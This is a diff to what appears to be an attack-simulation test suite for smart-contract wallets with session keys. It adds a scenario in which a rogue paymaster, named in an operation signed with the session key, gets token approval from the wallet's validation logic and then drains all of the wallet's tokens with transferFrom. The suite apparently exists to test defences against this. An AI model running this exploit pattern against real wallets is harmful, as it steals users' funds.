@@ -5,10 +5,11 @@ from __future__ import annotations
 from sessionlab.account import RawCall
 from sessionlab.attacks.acts import act, install, operation, send, signed, transact
 from sessionlab.attacks.attack import attack
-from sessionlab.attacks.loot import counts
+from sessionlab.attacks.loot import counts, units
 from sessionlab.attacks.scene import (
     COUNTER,
     DEPOSIT,
+    ETHER,
     GAS,
     INCREMENT,
     PAYMASTER,
@@ -130,3 +131,28 @@ def too_little_verification_gas(scene: Scene) -> str:
     op = operation(scene, PING, verification_gas_limit=3_000)
     send(scene, signed(scene, op, SESSION))
     return counts(scene)
+
+
+@attack(
+    "gas",
+    holds="the session key and a paymaster",
+    gain="all tokens",
+    source="264,000 USD were lost in July 2026 (Lumi Finance)",
+)
+def paymaster_approval(scene: Scene) -> str:
+    """Validation approves the paymaster that is named, for the token that its data name: the thief is it."""
+    install(scene, [ACCESS])
+    scene.chain.set_code(STRANGER.address, bytes.fromhex("ef0100" + PAYMASTER[2:]))
+    transact(scene, STRANGER, ENTRY_POINT, artifact("EntryPoint").encode("depositTo", STRANGER.address), ETHER)
+    named = bytes.fromhex(TOKEN[2:])
+    act(
+        scene,
+        PING,
+        paymaster=STRANGER.address,
+        paymaster_verification_gas_limit=100_000,
+        paymaster_data=named,
+    )
+    everything = tokens(scene, WALLET)
+    take = artifact("Token").encode("transferFrom", WALLET, STRANGER.address, everything)
+    transact(scene, STRANGER, TOKEN, take)
+    return units(scene)
